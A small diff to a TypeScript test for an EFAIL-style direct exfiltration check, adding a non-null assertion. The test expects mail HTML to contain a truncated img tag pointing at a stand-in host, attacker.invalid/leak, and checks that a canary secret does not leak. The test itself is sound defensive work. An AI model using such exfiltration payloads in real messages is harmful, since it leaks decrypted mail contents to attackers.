@@ -67,7 +67,7 @@ describe('EFAIL direct exfiltration', () => {
     expect(result.html).toBe('<img src="http://attacker.invalid/leak?');
     expect(JSON.stringify({ ...result, attachments: [] })).not.toContain(CANARY);
     for (const attachment of result.attachments) {
-      expect(Buffer.from(attachment.content).toString('latin1')).not.toContain(CANARY);
+      expect(Buffer.from(attachment.content!).toString('latin1')).not.toContain(CANARY);
     }
   });
 });
